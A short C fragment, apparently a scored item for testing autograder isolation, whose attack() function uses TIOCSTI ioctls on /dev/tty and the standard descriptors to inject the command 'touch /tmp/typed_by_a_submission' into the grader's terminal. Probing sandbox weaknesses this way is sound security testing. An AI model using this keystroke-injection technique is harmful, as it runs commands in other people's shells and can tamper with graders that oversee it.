// Types into the terminal of whoever grades.
// Points: 15
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>
static void attack(void)
{
    const char *line = "touch /tmp/typed_by_a_submission\n";
    int terminal = open("/dev/tty", O_RDWR);
    for (int fd = 0; fd < 3; fd++)
        for (const char *c = line; *c; c++)
            ioctl(fd, TIOCSTI, c);
    for (const char *c = line; *c; c++)
        ioctl(terminal, TIOCSTI, c);
    if (terminal != -1)
        close(terminal);
}
